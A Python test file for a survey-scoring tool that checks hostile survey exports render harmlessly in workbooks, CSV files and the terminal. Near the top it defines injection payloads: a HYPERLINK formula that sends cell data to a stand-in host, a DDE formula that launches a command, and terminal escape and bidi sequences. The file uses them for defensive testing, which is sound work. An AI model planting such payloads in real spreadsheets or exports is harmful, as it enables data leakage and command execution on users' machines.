"""Text from hostile exports reaches every output harmless: no formula in the workbook or CSV, no
escape sequence on the terminal, no crash on undecodable file names; the workbook is written in linear time."""
from __future__ import annotations

import csv
import io
import json
import os
import signal
import stat
import subprocess
import sys
import zipfile

import openpyxl
import pytest

from cxscore import Options, score
from cxscore.render import excel
from cxscore.render.cells import CELL_LIMIT
from conftest import SAMPLE, invoke, run_process

HYPERLINK = '=HYPERLINK("http://x.example/?d="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = [HYPERLINK, DDE, "+1+1", "-2+3", "@SUM(A1)", "=1+1"]
TITLE = "x\x1b]0;pwned\x07y"  # retitles a terminal
RED = "\x1b[31mred"  # recolours it


def _hostile_export(write_csv, control: bool = True):
    """A channel column of formula payloads (and escape sequences), an answer column with a formula as an invalid answer."""
    channels = PAYLOADS + ([TITLE, RED] if control else []) + ["Email"]
    rows = [["=Channel", "How likely are you to recommend us?"]]
    rows += [[channels[i % len(channels)], str(i % 11)] for i in range(180)]
    rows.append(["Email", "=2+2"])  # an invalid answer: its text is shown as an example
    return write_csv(rows)


def _config(tmp_path, benchmark_source: str = DDE):
    benchmarks = tmp_path / "bench.yaml"
    benchmarks.write_text(
        "benchmarks:\n"
        f"  - {{id: ours, metric: nps, industry: Ours, value: 10, scale: nps, year: 2025, quality: P, kind: average, source: {json.dumps(benchmark_source)}}}\n",
        encoding="utf-8",
    )
    config = tmp_path / "c.yaml"
    config.write_text(
        'metrics:\n  - {name: "=nps", type: nps, column: "How likely are you to recommend us?"}\n'
        f"benchmarks_file: {json.dumps(str(benchmarks))}\nbenchmark: ours\n",
        encoding="utf-8",
    )
    return config


def _strings(path) -> dict[str, list[openpyxl.cell.Cell]]:
    """Every text cell of the saved workbook, by value."""
    found: dict = {}
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    found.setdefault(cell.value, []).append(cell)
    return found


def test_every_string_in_the_workbook_is_text_never_a_formula(tmp_path, write_csv):
    export = _hostile_export(write_csv, control=False)  # (control characters: the next test)
    out = tmp_path / "r.xlsx"
    result = invoke(["report", str(export), "-c", str(_config(tmp_path)), "--by", "=Channel", "-o", str(out), "-q"])
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(out) as archive:  # what Excel reads: no <f> element at all, every data cell a string
        for name in archive.namelist():
            if name.startswith("xl/worksheets/sheet"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    cells = _strings(out)
    for payload in PAYLOADS + ["=nps", "=nps: Group", "=Channel"]:  # segment values, metric and --by names, chart table label
        assert payload in cells, payload
        assert all(c.quotePrefix for c in cells[payload]), payload  # stays text when edited in Excel
    assert cells["=nps"][0].parent.title == "Summary"
    assert any(c.parent.title == "Distribution" and c.column == 7 for c in cells[HYPERLINK])  # the NPS group table too
    assert any(DDE in value for value in cells), "the benchmark source"
    assert any("'=2+2' ×1" in value or "=2+2 ×1" in value for value in cells), "the invalid-answer example"


def test_control_characters_are_escaped_in_the_workbook(tmp_path, write_csv):
    """Today openpyxl refuses them (IllegalCharacterError, exit 1)."""
    out = tmp_path / "r.xlsx"
    result = invoke(["report", str(_hostile_export(write_csv)), "--by", "=Channel", "-o", str(out), "-q"])
    assert result.exit_code == 0, result.stderr
    cells = _strings(out)
    assert "x\\x1b]0;pwned\\x07y" in cells and "\\x1b[31mred" in cells
    assert not any("\x1b" in value for value in cells)


def test_a_cell_keeps_a_leading_tab_and_is_cut_at_excels_limit():
    ws = openpyxl.Workbook().active
    tab = excel.put(ws, 1, 1, "\t=1+1")
    assert (tab.value, tab.data_type, tab.quotePrefix) == ("\t=1+1", "s", True)
    cr = excel.put(ws, 2, 1, "\r=1+1")
    assert cr.value == "\\r=1+1" and cr.data_type == "s"
    plain = excel.put(ws, 3, 1, "Email")
    assert plain.quotePrefix is False and excel.put(ws, 4, 1, 12.5).data_type == "n"
    nonchar = excel.put(ws, 6, 1, "a\uffffb\x00")  # not allowed in XML: the saved file would need repair
    assert nonchar.value == "a\\uffffb\\x00"
    long = excel.put(ws, 5, 1, "x" * 40000)
    assert len(long.value) == CELL_LIMIT and long.value.endswith("…")


def _csv(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_escapes_formulas_by_default_and_writes_raw_on_request(tmp_path, write_csv):
    export = _hostile_export(write_csv)
    args = ["score", str(export), "-c", str(_config(tmp_path)), "--by", "=Channel", "-f", "csv", "-q"]
    safe = _csv(invoke(args).stdout)
    segments = {row["'=Channel"] for row in safe}
    assert {"'" + p for p in PAYLOADS} <= segments and "Email" in segments
    assert {row["metric"] for row in safe} == {"'=nps"}
    assert {row["benchmark_source"] for row in safe} == {"'" + DDE}
    assert {row["ci_low"] for row in safe if row["ci_low"].startswith("-")}, "numbers are not escaped"
    raw = _csv(invoke(args + ["--csv-raw"]).stdout)
    assert set(PAYLOADS) <= {row["=Channel"] for row in raw} and {row["metric"] for row in raw} == {"=nps"}


def test_benchmarks_csv_escapes_a_user_files_text(tmp_path):
    _config(tmp_path, benchmark_source="@SUM(1+1)")
    args = ["benchmarks", "--benchmarks-file", str(tmp_path / "bench.yaml"), "--industry", "ours", "-f", "csv"]
    assert _csv(invoke(args).stdout)[0]["source"] == "'@SUM(1+1)"
    assert _csv(invoke(args + ["--csv-raw"]).stdout)[0]["source"] == "@SUM(1+1)"


@pytest.mark.parametrize("fmt", ["table", "markdown"])
def test_terminal_escape_sequences_from_the_data_are_shown_escaped(write_csv, fmt):
    result = invoke(["score", str(_hostile_export(write_csv)), "--by", "=Channel", "-f", fmt, "-q"], env={"NO_COLOR": "1", "COLUMNS": "200"})
    assert result.exit_code == 0
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout
    assert "x\\x1b]0;pwned\\x07y" in result.stdout and "\\x1b[31mred" in result.stdout


@pytest.mark.parametrize("fmt", ["table", "markdown", "xlsx"])
def test_bidi_overrides_and_zero_width_spaces_in_segment_names_are_shown_escaped(tmp_path, write_csv, fmt):
    """'\u202egnp.exe' displays as 'exe.png'; 'a\u200bb' looks like a second segment 'ab' (Trojan Source)."""
    rows = [["Channel", "How likely are you to recommend us?"]] + [[("\u202egnp.exe", "a\u200bb", "ab")[i % 3], str(i % 11)] for i in range(60)]
    args = ["score" if fmt != "xlsx" else "report", str(write_csv(rows)), "--by", "Channel", "-q"]
    result = invoke(args + (["-f", fmt] if fmt != "xlsx" else ["-o", str(tmp_path / "r.xlsx")]), env={"NO_COLOR": "1"})
    assert result.exit_code == 0, result.stderr
    text = result.stdout if fmt != "xlsx" else "\n".join(_strings(tmp_path / "r.xlsx"))
    assert "\u202e" not in text and "\u200b" not in text
    assert "\\u202egnp.exe" in text and "a\\u200bb" in text


@pytest.mark.skipif(sys.platform != "linux", reason="file names are bytes on Linux")
def test_a_file_name_that_is_not_utf8_is_written_escaped(tmp_path, write_csv):
    export = _hostile_export(write_csv)
    odd = os.fsencode(tmp_path) + b"/survey\xff.csv"
    os.rename(export, odd)
    as_json = run_process(["score", odd, "-f", "json", "-q"])
    assert as_json.returncode == 0, as_json.stderr
    assert json.loads(as_json.stdout)["inputs"][0]["path"].endswith("survey\\xff.csv")
    out = tmp_path / "r.xlsx"
    workbook = run_process(["report", odd, "-o", str(out), "-q"])
    assert workbook.returncode == 0, workbook.stderr
    assert openpyxl.load_workbook(out)["Data quality"]["A2"].value.endswith("survey\\xff.csv")
    as_csv = run_process(["score", odd, "--by", "file", "-f", "csv", "-q"])  # a segment per file: the name in rows
    assert as_csv.returncode == 0 and b"survey\\xff.csv" in as_csv.stdout, as_csv.stderr
    segments = run_process(["score", odd, "--by", "file", "-f", "json", "-q"])
    assert segments.returncode == 0, segments.stderr
    assert json.loads(segments.stdout)["results"][1]["segment"]["file"] == "survey\\xff.csv"


def test_the_workbook_writer_does_not_rescan_the_sheet_per_row(write_csv, monkeypatch):
    """openpyxl's max_row scans every cell; asked once per row it made 8,000 segments take minutes."""
    rows = [["customer", "How likely are you to recommend us?"]] + [[f"C{i:04d}", str(i % 11)] for i in range(600)]
    report = score([str(write_csv(rows))], options=Options(by=["customer"], distribution=True))
    calls = []
    real = openpyxl.worksheet.worksheet.Worksheet.max_row
    monkeypatch.setattr(openpyxl.worksheet.worksheet.Worksheet, "max_row", property(lambda ws: calls.append(1) or real.fget(ws)))
    workbook = excel.build(report)
    assert workbook["Segments"].max_row == 603  # the header, 600 segments, a blank row and the note on Δ rest and Mark
    assert len(calls) <= 12  # a few per sheet, none per row (600 segments)


# --- output files --------------------------------------------------------------------------------

SAMPLE_ARGS = ["report", str(SAMPLE), "-q", "-o"]


@pytest.mark.skipif(os.name != "posix", reason="symbolic links and permissions")
def test_an_output_that_is_a_link_is_written_through_and_the_link_stays(tmp_path):
    real = tmp_path / "reports" / "2025.xlsx"
    real.parent.mkdir()
    real.write_bytes(b"old")
    real.chmod(0o640)
    link = tmp_path / "latest.xlsx"
    link.symlink_to(real)
    assert invoke(SAMPLE_ARGS + [str(link)]).exit_code == 0
    assert link.is_symlink() and os.readlink(link) == str(real)
    assert openpyxl.load_workbook(real).sheetnames[:2] == ["Dashboard", "Summary"]
    assert stat.S_IMODE(real.stat().st_mode) == 0o640
    assert sorted(p.name for p in real.parent.iterdir()) == ["2025.xlsx"]  # no temporary file left


@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs /dev/full")
def test_an_output_link_to_a_device_is_refused(tmp_path):
    link = tmp_path / "r.xlsx"
    link.symlink_to("/dev/full")
    result = invoke(SAMPLE_ARGS + [str(link)])
    assert result.exit_code == 2 and "not a regular file (the link leads to /dev/full)" in result.stderr
    assert link.is_symlink() and list(tmp_path.iterdir()) == [link]


def test_dot_dot_in_the_output_path_creates_no_stray_folder(tmp_path):
    (tmp_path / "a" / "b").mkdir(parents=True)
    result = invoke(SAMPLE_ARGS + [f"{tmp_path}/a/b/../{{date}}/../../x.xlsx"])
    assert result.exit_code == 0, result.stderr
    assert (tmp_path / "x.xlsx").is_file()
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == ["b"]


@pytest.mark.skipif(os.name != "posix", reason="POSIX signals")
def test_sigterm_while_saving_leaves_no_temporary_file(tmp_path):
    script = (
        "import os, signal, sys, time\n"
        "from pathlib import Path\n"
        "from cxscore.render.output import atomic_path\n"
        "with atomic_path(Path(sys.argv[1])) as temporary:\n"
        "    temporary.write_bytes(b'half a workbook')\n"
        "    os.kill(os.getpid(), signal.SIGTERM)\n"
        "    time.sleep(5)\n"
    )
    done = subprocess.run([sys.executable, "-c", script, str(tmp_path / "r.xlsx")], capture_output=True, timeout=60)
    assert done.returncode == -signal.SIGTERM  # still ends by the signal, as before
    assert list(tmp_path.iterdir()) == []


# --- many segments -------------------------------------------------------------------------------

def _customers(write_csv, first: int, later: int):
    """``first`` distinct customers within the first 2,000 rows, then ``later`` new ones after them."""
    rows = [["customer", "How likely are you to recommend us?"]]
    rows += [[f"C{i % first:05d}", str(i % 11)] for i in range(2000)]
    rows += [[f"D{i:05d}", str(i % 11)] for i in range(later)]
    return write_csv(rows)


def test_a_by_column_with_many_values_is_warned_about_before_reading(write_csv, monkeypatch):
    import cxscore.pipeline as pipeline

    events = []
    real = pipeline.run_jobs
    monkeypatch.setattr(pipeline, "run_jobs", lambda *a, **k: events.append("read") or real(*a, **k))
    report = score([str(_customers(write_csv, 1200, 0))], options=Options(by=["customer"]), warn=lambda m: events.append(m))
    assert events[0].startswith("--by customer: 1,200 distinct values in the first 2,000 rows") and events[1] == "read"
    assert events[0] in report.warnings and "--top N or --bottom N" in events[0] and "--min-n" in events[0]


def test_many_values_found_only_by_reading_are_warned_once_on_stderr_and_in_json(write_csv):
    export = _customers(write_csv, 500, 700)  # 500 in the first rows, 1,200 in all
    result = invoke(["score", str(export), "--by", "customer", "-f", "json"])
    warned = [w for w in json.loads(result.stdout)["warnings"] if w.startswith("--by customer")]
    assert warned == ["--by customer: 1,200 distinct values (more than 1,000): a row each, mostly too few answers to judge, slow and large; "
                      "--top N or --bottom N keep the best or worst with at least --min-n answers (--warn-segments N moves this threshold)"]
    assert result.stderr.count("--by customer: 1,200 distinct values") == 1
    assert "--by customer" not in invoke(["score", str(export), "--by", "customer", "--warn-segments", "1200", "-q", "-f", "json"]).stdout
    assert "--by customer" not in invoke(["score", str(export), "--by", "customer", "--warn-segments", "0"]).stderr
    assert "--by customer" not in invoke(["score", str(export), "--by", "customer", "--bottom", "5"]).stderr  # advice taken


def test_compact_json_is_streamed_in_pieces_with_the_same_bytes():
    from cxscore.render import json_doc

    report = score([str(SAMPLE)], options=Options(by=["Channel"], period="month", distribution=True, benchmark="retail"))
    writes: list[str] = []
    sink = type("Sink", (), {"write": lambda self, text: writes.append(text)})()
    json_doc.write(report, sink, pretty=False, rows_per_write=10)
    whole = "".join(writes)
    assert whole == json_doc.render(report, pretty=False)
    assert len(writes) >= len(report.results) // 10 and max(map(len, writes)) < len(whole) / 5
